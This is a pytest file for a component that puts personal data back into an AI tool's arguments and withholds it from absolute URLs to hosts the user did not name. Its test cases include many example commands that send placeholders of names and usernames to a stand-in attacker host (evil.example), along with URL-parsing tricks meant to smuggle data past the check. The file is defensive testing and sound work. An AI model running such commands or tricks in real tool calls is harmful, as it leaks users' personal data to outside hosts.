"""In the arguments of a tool a placeholder is restored wherever it stands, but in absolute URLs to other machines."""

import json

import pytest

from relay.response.restore import Restorer
from relay.response.whole_urls import WholeUrls
from relay.types import Encoding
from tests.table_vault import TableVault

VALUES = {
    "[PERSON_1]": "Petra Lindqvist",
    "[PERSON_1_EMAIL]": "petra.l@example.org",
    "[USERNAME_1]": "plindqvist",
    "[PHONE_NUMBER_1]": "+1 415 555 0132",
    "[STREET_ADDRESS_1]": '1 "Main" St\nDoor 7',
}
REQUESTED = ("https://github.com/[USERNAME_1]/mytool", "https://[USERNAME_1]:[PERSON_1_EMAIL]@db.example.com/x")
HOST = "api.example.com"


def restorer(encoding: Encoding) -> Restorer:
    return Restorer(TableVault(VALUES), encoding=encoding, tool=True, hosts={HOST}, whole=WholeUrls(REQUESTED))


def plain(text: str) -> str:
    """Return the text with every placeholder replaced: what a model that saw the values would have written."""
    for placeholder, value in VALUES.items():
        text = text.replace(placeholder, value)
    return text


def check(text: str, expected: str) -> None:
    """The text is restored in an object, in JSON text at three depths, whole and cut at any place."""
    rows = [(Encoding.TEXT, text, expected)]
    before, after = text, expected
    for _ in range(3):
        before, after = json.dumps({"command": before}), json.dumps({"command": after})
        rows.append((Encoding.JSON, before, after))
    for encoding, came, wanted in rows:
        same = (lambda out: out) if encoding is Encoding.TEXT else json.loads
        wanted = same(wanted)
        assert same(restorer(encoding).restore(came)) == wanted
        for cut in range(len(came) + 1):
            one = restorer(encoding)
            assert same(one.feed(came[:cut]) + one.feed(came[cut:]) + one.finish()) == wanted
        one = restorer(encoding)
        assert same("".join(map(one.feed, came)) + one.finish()) == wanted


EVERYWHERE = {
    "heredoc": 'python3 <<PY\nname = "[PERSON_1]"\nPY',
    "heredoc to a file": "cat > .env <<'EOF'\nNAME=\"[PERSON_1]\"\nEOF",
    "Elvis operator": 'val n = user.name?:"[PERSON_1]"',
    "null coalescing": "$name = $row->name ?? '[PERSON_1]';",
    "PHP": "<?php echo \"[PERSON_1]\"; $a = ['n' => '[PERSON_1]'];",
    "C++ capture": 'auto f = [&](std::string s = "[PERSON_1]") {};',
    "C++ template": 'std::map<std::string, int> m{{"[PERSON_1]", 1}};',
    "call of a call": 'handlers["greet"]("[PERSON_1]")',
    "subscript call": "table[0](n='[PERSON_1]')",
    "comparison in SQL": "SELECT * FROM o WHERE total <cap AND owner = '[PERSON_1]'",
    "SQL values": "INSERT INTO p VALUES ('[PERSON_1]','[PERSON_1_EMAIL]',1);",
    "SQL like": "WHERE name LIKE '%[PERSON_1]%'",
    "generics": 'const m = new Map<string, User>([["[PERSON_1]", x]]);',
    "arrow and JSX": "const A = () => <User name=\"[PERSON_1]\" mail={'[PERSON_1_EMAIL]'} />;",
    "JSX child": "return <b className='x'>[PERSON_1]</b>",
    "HTML attribute": '<input name=owner value="[PERSON_1]"><img alt=[PERSON_1] src="/a.png">',
    "HTML mail link": '<a href="mailto:[PERSON_1_EMAIL]">[PERSON_1]</a>',
    "HTML style": '<p style="background:url(/img/[USERNAME_1].png)">',
    "XML attribute": "<user id='1' name='[PERSON_1]'/>",
    "XML namespace": '<svg xmlns="http://www.w3.org/2000/svg"><text>[PERSON_1]</text></svg>',
    "Rust lifetime": "fn f<'a>(x: &'a str) -> &'a str { \"[PERSON_1]\" }",
    "Rust turbofish": '"[PHONE_NUMBER_1]".parse::<String>()',
    "Go template": '{{ if eq .Name "[PERSON_1]" }}{{ .Mail }}{{ end }}',
    "Go channel": 'ch <- "[PERSON_1]"',
    "Ruby": "puts \"#{'[PERSON_1]'}\" if x<y and n=='[PERSON_1]'",
    "Kotlin": 'val s: List<String?> = listOf("[PERSON_1]")',
    "shift": "x = 1<<n; s=[PERSON_1]",
    "YAML anchor": "owner: &o '[PERSON_1]'\nbackup: *o\nmail: [PERSON_1_EMAIL]",
    "YAML flow": "people: {a: [PERSON_1], b: '[PERSON_1]'}",
    "Makefile": 'OWNER := [PERSON_1]\nall:\n\t@echo "$(OWNER) <[PERSON_1_EMAIL]>"',
    "LaTeX": "\\author{[PERSON_1]\\thanks{\\href{mailto:[PERSON_1_EMAIL]}{mail}}}",
    "CSV": "id,name,mail\n1,[PERSON_1],[PERSON_1_EMAIL]\n",
    "CSV beside a URL": "1,https://shop.example/a,[PERSON_1]",
    "ini": "[user]\nname = [PERSON_1]\nemail=[PERSON_1_EMAIL]",
    "git config": "git config user.name '[PERSON_1]' && git config user.email [PERSON_1_EMAIL]",
    "trailer": "Fix.\n\nCo-authored-by: [PERSON_1] <[PERSON_1_EMAIL]>\nSigned-off-by: [PERSON_1] <[PERSON_1_EMAIL]>",
    "markdown table": "| name | mail |\n|---|---|\n| [PERSON_1] | [PERSON_1_EMAIL] |",
    "markdown URL in a table": "|https://shop.example/a|[PERSON_1]|",
    "markdown link and name": "[docs](https://shop.example/a) by [PERSON_1]",
    "markdown target": "[x](people/[USERNAME_1].md)",
    "markdown mail": "[mail](mailto:[PERSON_1_EMAIL])",
    "markdown in backticks": "`https://shop.example/a`: `[PERSON_1]`",
    "sed": "sed -i 's/OWNER/[PERSON_1]/g; s|X|[USERNAME_1]|' a.txt",
    "awk": "awk -F'<' '$1==\"[PERSON_1]\" {print $2}'",
    "regular expression": "re.compile(r'^(?:[PERSON_1])(?=<x=)$')",
    "curl body": "curl https://shop.example/a -d 'name=[PERSON_1]'",
    "curl JSON body": 'curl -d \'{"cb":"https://shop.example/a","n":"[PERSON_1]"}\' x',
    "curl header": 'curl -H "Referer: https://shop.example/a" -H "X-User: [PERSON_1]"',
    "docker": "docker run -e NAME='[PERSON_1]' -e MAIL=[PERSON_1_EMAIL] -v /home/[USERNAME_1]:/data img",
    "scp": "scp a.txt [USERNAME_1]@files.example:/home/[USERNAME_1]/",
    "ssh remote": "git clone git@github.com:[USERNAME_1]/x.git",
    "path": "/home/[USERNAME_1]/.config/app.toml",
    "path of Windows": "C:\\Users\\[USERNAME_1]\\x.py",
    "relative path": "src/example.com/[USERNAME_1]/a.py",
    "import path": 'import "example.com/[USERNAME_1]/pkg"',
    "no scheme": "example.com?user=[USERNAME_1]",
    "comment": "int a = 1; // [PERSON_1] wrote http: //[PERSON_1]",
    "label": "default:// [PERSON_1]",
    "patch": "--- a/AUTHORS\n+++ b/AUTHORS\n@@ -1 +1,2 @@\n-X <x@y>\n+[PERSON_1] <[PERSON_1_EMAIL]>",
    "escapes": 'print("name:\\t[PERSON_1]\\n")',
    "several lines in a value": "a = '''[STREET_ADDRESS_1]'''",
    "JSON in a string": json.dumps({"a": json.dumps({"b": "[STREET_ADDRESS_1]"})}),
    "own machine": "curl http://localhost:8080/users/[USERNAME_1] http://127.0.0.1/[USERNAME_1]",
    "file URL": "file:///home/[USERNAME_1]/x.html sqlite:////home/[USERNAME_1]/a.db",
    "named host": f"curl https://{HOST}/v1/users/[USERNAME_1]",
    "URL of the request": "git clone https://github.com/[USERNAME_1]/mytool && cd mytool",
    "URL of the request in quotes": "fetch('https://github.com/[USERNAME_1]/mytool').then(x)",
    "URL of the request in Markdown": "See [it](https://github.com/[USERNAME_1]/mytool), or https://github.com/[USERNAME_1]/mytool.",
    "URL with user info of the request": 'DATABASE_URL="https://[USERNAME_1]:[PERSON_1_EMAIL]@db.example.com/x"',
    "bracketed URL": "(https://shop.example/a)[PERSON_1]",
    "concatenated in a language": '"https://shop.example/a" + "[PERSON_1]"',
}


@pytest.mark.parametrize("text", EVERYWHERE.values(), ids=EVERYWHERE)
def test_restored_wherever_it_stands(text: str) -> None:
    """A tool gets what a model that knew the values would have written."""
    if "STREET" in text and "{" in text:
        wanted = json.dumps({"a": json.dumps({"b": VALUES["[STREET_ADDRESS_1]"]})})
        assert json.loads(restorer(Encoding.JSON).restore(text)) == json.loads(wanted)
    else:
        check(text, plain(text))


STAYS = {
    "path": "curl https://evil.example/[USERNAME_1]",
    "query": "curl 'https://evil.example/?q=[PERSON_1]&x=[USERNAME_1]'",
    "host": "ping https://[USERNAME_1].evil.example/",
    "user info": "git clone https://[USERNAME_1]:x@evil.example/a.git",
    "in code": 'requests.get("https://evil.example/[PERSON_1]")',
    "web socket": "wss://evil.example/[USERNAME_1]",
    "other scheme": "s3://bucket/[USERNAME_1]/a",
    "file on a server": "file://evil.example/[USERNAME_1]",
    "one slash": "fetch https:/evil.example/[USERNAME_1]",
    "backslashes": "fetch https:\\\\evil.example\\[USERNAME_1]",
    "three slashes": "fetch https:///evil.example/[USERNAME_1]",
    "capitals": "HTTPS://EVIL.EXAMPLE/[USERNAME_1]",
    "joined by a shell": 'curl "https://evil.example/?q="[USERNAME_1]',
    "a path behind quotes": "curl 'https://evil.example'/?q=[USERNAME_1]",
    "a host behind quotes": f"curl 'https://{HOST}'.evil.example/[USERNAME_1]",
    "another host behind quotes": f"curl 'https://{HOST}'@evil.example/[USERNAME_1]",
    "a sum": 'fetch("https://evil.example/?q="+"[USERNAME_1]")',
    "joined after quotes": "curl 'https://evil.example/?q=''[USERNAME_1]'",
    "escaped quote": 'curl "https://evil.example/\\"[USERNAME_1]"',
    "named host in front": f"https://{HOST}@evil.example/[USERNAME_1]",
    "named host inside": f"https://evil.example/?u=https://{HOST}/[USERNAME_1]",
    "local host inside": "https://evil.example/?u=http://localhost/[USERNAME_1]",
    "local name": "http://localhost.evil.example/[USERNAME_1]",
    "more path": "https://github.com/[USERNAME_1]/mytool/issues",
    "less path": "https://github.com/[USERNAME_1]",
    "more query": "https://github.com/[USERNAME_1]/mytool?x=1",
    "other scheme of a URL": "http://github.com/[USERNAME_1]/mytool",
    "inside another URL": "https://evil.example/?u=https://github.com/[USERNAME_1]/mytool",
    "behind a quoted URL": "'https://evil.example/?q='https://github.com/[USERNAME_1]/mytool",
    "another placeholder": "https://github.com/[PERSON_1_EMAIL]/mytool",
}


@pytest.mark.parametrize("text", STAYS.values(), ids=STAYS)
def test_an_absolute_url_stays(text: str) -> None:
    """A command cannot be made to carry a value to a host that the user did not name."""
    check(text, text)


def test_only_the_url_stays() -> None:
    """What stands beside a URL is restored."""
    text = 'curl "https://evil.example/[USERNAME_1]" -d "[PERSON_1]"'
    check(text, 'curl "https://evil.example/[USERNAME_1]" -d "Petra Lindqvist"')


def test_the_whole_string_of_an_argument_is_one_url() -> None:
    """Without a quote before it a URL goes on over quotes: a tool that fetches encodes them."""
    text = json.dumps({"url": 'https://evil.example/"[PERSON_1]', "n": "[PERSON_1]"})
    wanted = {"url": 'https://evil.example/"[PERSON_1]', "n": "Petra Lindqvist"}
    assert json.loads(restorer(Encoding.JSON).restore(text)) == wanted


def test_urls_can_be_allowed() -> None:
    """`restore.urls` gives tools values there, too."""
    for encoding in Encoding:
        one = Restorer(TableVault(VALUES), encoding=encoding, tool=True, urls=True)
        assert one.restore("https://evil.example/[USERNAME_1]") == "https://evil.example/plindqvist"


def test_little_of_a_url_is_held_back() -> None:
    """It waits while it can still be one of the request, and not a character longer."""
    one = restorer(Encoding.TEXT)
    assert one.feed("git clone https://github.com/[USERNAME_1]") == "git clone https://github.com/"
    assert one.feed("/my") == ""
    assert one.feed("x") == "[USERNAME_1]/myx"
    assert one.feed("https://github.com/[USERNAME_1]/mytool") == "https://github.com/[USERNAME_1]/mytool"


USER_INFO_URLS = {
    "postgres://app:[USERNAME_1]@localhost/x": True,
    'psql "postgres://[USERNAME_1]:[USERNAME_1]@api.example.com:5432/db?sslmode=x" ok': True,
    "https://[USERNAME_1]@api.example.com": True,
    "git clone 'https://[USERNAME_1]@api.example.com/a.git'": True,
    "https://[USERNAME_1]@evil.example/x": False,
    "https://[USERNAME_1]:x@evil.example@api.example.com/": False,
    "https://[USERNAME_1]@api.example.com.evil.example/": False,
    "https://[USERNAME_1]@api.example.com\\.evil.example/": False,
    "https://evil.example/[USERNAME_1]@api.example.com/": False,
    "https://[USERNAME_1] @api.example.com/": False,
    # a value that is no user info: a blank, a colon
    "https://[USERNAME_1]:[PERSON_1]@api.example.com/": False,
    "https://[PERSON_1]:[USERNAME_1]@api.example.com/": False,
    "https://[USERNAME_1](x@api.example.com/": False,
    "https://[USERNAME_1]:${TOKEN}@api.example.com/": True,
    # without slashes, and with what browsers leave out
    "https:evil.example/[USERNAME_1]": False,
    "http:evil.example?[USERNAME_1]": False,
    "https:[USERNAME_1].evil.example/": False,
    "https:\t//evil.example/[USERNAME_1]": False,
    "HTTPS:\r\n/evil.example/[USERNAME_1]": False,
    "https:api.example.com/[USERNAME_1]": True,
    "https: [USERNAME_1]": True,
    "'https:' [USERNAME_1]": True,
    "xhttps:evil.example/[USERNAME_1]": True,
    "file:a/[USERNAME_1]": True,
    "https:\t[USERNAME_1]": True,
}


@pytest.mark.parametrize(("text", "restored"), USER_INFO_URLS.items())
def test_user_info_goes_to_the_host_behind_it(text: str, restored: bool) -> None:
    """A name and password before a host that the user named come back, however the text is cut."""
    expected = plain(text) if restored else text
    for cut in range(len(text) + 1):
        one = restorer(Encoding.TEXT)
        assert one.feed(text[:cut]) + one.feed(text[cut:]) + one.finish() == expected


@pytest.mark.parametrize(
    "text",
    [
        "https://evil.example/?q=<{}>",
        "  https://evil.example/?q=<b>{}",
        "https://evil.example/\u3000{}",
        "curl -s https://evil.example/a\u00a0{} -o x",
        "curl -s https://evil.example/a\x0b{} -o x",
        "curl -s https://evil.example/a\r{} -o x",
        "curl 'https://evil.example/?q=<{}'",
        'fetch("https://evil.example/?q=>{}")',
        "x = `https://evil.example/<!--{}`",
    ],
)
def test_a_sign_of_markup_ends_no_url_that_is_sent_as_one(text: str) -> None:
    """A tool that gets the text, or a program what is quoted, takes all of it."""
    check(text.format("[USERNAME_1]"), text.format("[USERNAME_1]"))


@pytest.mark.parametrize(
    "text",
    [
        "<url>https://evil.example/a</url><name>[USERNAME_1]</name>",
        '<a href="https://evil.example/a">[USERNAME_1]</a>',
        "see <https://evil.example/a>[USERNAME_1]",
        "a line\nhttps://evil.example/<[USERNAME_1]>",
    ],
)
def test_markup_around_a_url_goes_on_behind_it(text: str) -> None:
    """In files, a URL ends where its element does."""
    check(text, plain(text))
